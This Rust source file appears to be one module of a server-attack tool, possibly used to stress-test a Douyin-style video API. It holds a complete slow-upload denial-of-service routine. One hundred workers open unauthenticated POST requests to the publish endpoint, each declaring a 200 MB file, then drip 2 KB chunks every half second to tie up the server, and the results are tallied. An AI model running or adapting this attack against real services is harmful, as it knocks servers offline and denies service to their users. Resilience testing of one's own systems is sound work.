//! Uploads large files slowly, before any token.

use std::time::Duration;

use tokio::{
    io::AsyncWriteExt,
    time::{interval, timeout},
};

use crate::{
    attacker::Attacker,
    source::{connect, read_to_close, status_of},
};

/// More than the uploads that may run at the same time.
const WORKERS: u16 = 100;
/// Between connections of a worker.
const PAUSE: Duration = Duration::from_secs(1);
const CHUNK_BYTES: usize = 2 * 1024;
const CHUNK_INTERVAL: Duration = Duration::from_millis(500);
const FILE_BYTES: usize = 200 * 1024 * 1024;
const ANSWER_TIMEOUT: Duration = Duration::from_secs(2);

pub(super) async fn run(attacker: Attacker) {
    attacker
        .repeat(WORKERS, PAUSE, async |worker| {
            let outcome = trickle(&attacker, worker).await;
            attacker.tally.add(outcome);
        })
        .await;
}

/// Sends parts of an upload until the server refuses it.
async fn trickle(attacker: &Attacker, worker: u16) -> String {
    let address = attacker.address(worker);
    let Ok(mut stream) = connect(address, attacker.api).await else {
        return "failed to connect".to_owned();
    };
    let head = format!(
        "POST /douyin/publish/action/ HTTP/1.1\r\nHost: {}\r\nContent-Type: multipart/form-data; boundary=x\r\n\
         Content-Length: {FILE_BYTES}\r\n\r\n--x\r\nContent-Disposition: form-data; name=\"data\"; filename=\"a\"\r\n\r\n",
        attacker.api
    );
    if stream.write_all(head.as_bytes()).await.is_err() {
        return "closed without an answer".to_owned();
    }
    let chunk = [b'x'; CHUNK_BYTES];
    let mut ticks = interval(CHUNK_INTERVAL);
    loop {
        ticks.tick().await;
        attacker.tally.add("chunks of 2 KB");
        let is_answered = stream.write_all(&chunk).await.is_err()
            || timeout(Duration::ZERO, stream.readable()).await.is_ok();
        if is_answered {
            let text = timeout(ANSWER_TIMEOUT, read_to_close(&mut stream)).await;
            return text.map_or_else(|_| "answered and read on".to_owned(), |text| status_of(&text));
        }
    }
}
